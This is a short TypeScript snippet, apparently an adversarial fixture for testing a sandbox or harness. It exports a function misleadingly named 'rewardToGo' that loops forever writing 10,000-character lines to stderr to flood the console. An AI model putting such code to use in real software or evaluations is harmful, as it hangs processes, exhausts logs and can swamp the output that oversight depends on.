// Tries to flood stderr past console.
const fs = process.getBuiltinModule?.('fs') ?? process.mainModule!.require('fs');
const line = 'x'.repeat(10_000);
export function rewardToGo() {
  for (;;) fs.writeSync(2, line);
}
